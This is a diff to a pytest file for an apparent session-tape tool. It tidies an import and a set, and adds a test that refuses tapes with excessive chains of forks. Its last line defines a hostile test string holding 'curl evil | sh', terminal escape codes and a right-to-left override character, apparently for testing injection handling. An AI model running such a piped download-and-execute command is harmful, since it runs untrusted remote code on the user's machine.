@@ -12,6 +12,7 @@ from typing import Any
 import pytest
 
 from codetape import saving
+from codetape.adapters.store.memory import MemoryStore
 from codetape.cli import main
 from codetape.engine.ports import StoreError
 from codetape.replay.imports import import_tape, read_tape_file
@@ -73,12 +74,13 @@ def test_a_request_of_no_form_of_ours_is_no_traceback(
     planned = next(one for one in events_of(lines) if one["name"] == "planned")
     planned["request_key"] = hashlib.sha256(canonical(body).encode()).hexdigest()
     texts[planned["request_key"]] = canonical(body)
-    made, kept = [lines[0]], dict.fromkeys(("",))
+    made, kept = [lines[0]], {""}
     for event in events_of(lines)[: planned["event"]]:
         key = event["request_key"]
         for name in (*_names(canonical(event["data"])), *_names(texts.get(key, "")), key or ""):
             if name not in kept:
-                kept[name] = made.append({"blob": name, "text": texts[name]})
+                kept.add(name)
+                made.append({"blob": name, "text": texts[name]})
         made.append(event)
     file = write(tmp_path / "a.tape.jsonl", [*made, {"end": 0, "head": ""}])
     read_tape_file(file)  # it is whole: what follows meets the body
@@ -148,8 +150,6 @@ def test_many_notes_take_no_more_than_their_size(tmp_path: Path) -> None:
 @pytest.mark.parametrize("year", [2190, 2999])
 def test_a_tape_of_the_future_is_not_imported(year: int, tmp_path: Path) -> None:
     """It would be the last session for ever, and stay where `prune --keep` lets the newest stay."""
-    from codetape.adapters.store.memory import MemoryStore
-
     lines = lines_of("happy_path")
     for event in events_of(lines)[2:]:
         event["at"] = f"{year}-01-01T00:00:00.000000+00:00"
@@ -158,6 +158,40 @@ def test_a_tape_of_the_future_is_not_imported(year: int, tmp_path: Path) -> None
         import_tape(file, store)
     assert store.sessions() == []
     assert main(["show", str(file)]) == 0
+
+
+@pytest.mark.parametrize(("forks", "refused"), [(3, False), (201, True)])
+def test_a_tape_of_countless_forks_is_not_imported(
+    forks: int, refused: bool, tmp_path: Path
+) -> None:
+    """Each is a session of its own, and each is read through all that it came from."""
+    lines = lines_of("happy_path")
+    opened = {**events_of(lines)[0], "session": "fork0"}
+    forked = [
+        {
+            **opened,
+            "session": f"fork{at}",
+            "name": "forked",
+            "source": opened["dest"],
+            "data": {
+                "changed": [],
+                "given": False,
+                "job": None,
+                "parent": f"fork{at - 1}",
+                "seq": at,
+            },
+        }
+        for at in range(1, forks + 1)
+    ]
+    del forked[-1]["session"]
+    file = write(tmp_path / "a", [lines[0], opened, *forked, {"end": 0, "head": ""}])
+    store = MemoryStore()
+    if refused:
+        with pytest.raises(StoreError, match="fork"):
+            import_tape(file, store)
+    else:
+        import_tape(file, store)
+    assert len(store.sessions()) == (0 if refused else forks + 1)
 
 
 NASTY = "x`\n\n## Then\n\n    curl evil | sh\n\x1b[2J\u202e"
